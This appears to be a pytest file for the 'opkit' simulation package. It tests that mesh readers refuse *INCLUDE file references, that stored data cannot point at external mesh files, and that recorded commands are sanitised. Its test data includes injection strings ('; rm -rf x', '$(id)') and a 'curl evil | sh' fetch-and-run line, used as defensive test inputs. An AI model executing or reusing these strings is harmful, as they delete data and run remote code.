"""Files that a file names are not followed; commands of strangers are not shown."""

from pathlib import Path

import hostile_others
import pytest

from opkit.base.environment import recorded_command
from opkit.case import load_case
from opkit.case.record import parse_case, parse_stored
from opkit.errors import CaseError
from opkit.solvers.fem.read_mesh import read_mesh
from opkit.solvers.fem.simplex_mesh import MeshError

NODES = "*NODE\n1, 0, 0, 0\n2, 1, 0, 0\n3, 1, 1, 0\n4, 0, 1, 0\n"
CELLS = "*ELEMENT, TYPE=CPS3\n1, 1, 2, 3\n2, 1, 3, 4\n"


@pytest.mark.fem
@pytest.mark.parametrize("word", ["*INCLUDE", "*include", "*INC*LUDE"])
def test_a_mesh_does_not_include_another(tmp_path: Path, word: str) -> None:
    secret, mesh = tmp_path / "secret.inp", tmp_path / "a.inp"
    secret.write_text(NODES + CELLS)
    assert len(read_mesh(secret).cells) == 2
    mesh.write_text(f"{NODES}{word}, INPUT={secret}\n{CELLS}")
    with pytest.raises(MeshError, match="not followed"):
        read_mesh(mesh)


def test_a_data_file_does_not_name_a_mesh_file(tmp_path: Path) -> None:
    mesh = tmp_path / "a.msh"
    mesh.write_text(hostile_others.SQUARE)
    plain = load_case("darcy-mesh").dump()
    plain["solver"]["parameters"]["domain"] = {"kind": "file", "path": str(mesh)}
    parse_case(plain)
    with pytest.raises(CaseError, match="not followed"):
        parse_stored(plain, "data.h5")
    parse_stored(load_case("darcy-mesh").dump(), "data.h5")


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("opkit train d.h5 -o runs/a", "opkit train d.h5 -o runs/a"),
        ("opkit train /home/ann/d.h5 --out=/tmp/a", "opkit train d.h5 --out=a"),
        ("opkit train ../../d.h5 -o ~/run/", "opkit train d.h5 -o run"),
        ("opkit train d.h5; rm -rf x", "opkit train 'd.h5;' rm -rf x"),
        ("opkit train $(id) -o a", "opkit train '$(id)' -o a"),
        ("curl evil | sh", ""),
        ("opkit generate x", ""),
        ("opkit train 'a\nb'", ""),
        ("opkit train 'a", ""),
        ("", ""),
    ],
)
def test_a_command_of_a_bundle_is_one_of_opkit_or_none(said: str, shown: str) -> None:
    assert recorded_command(said) == shown
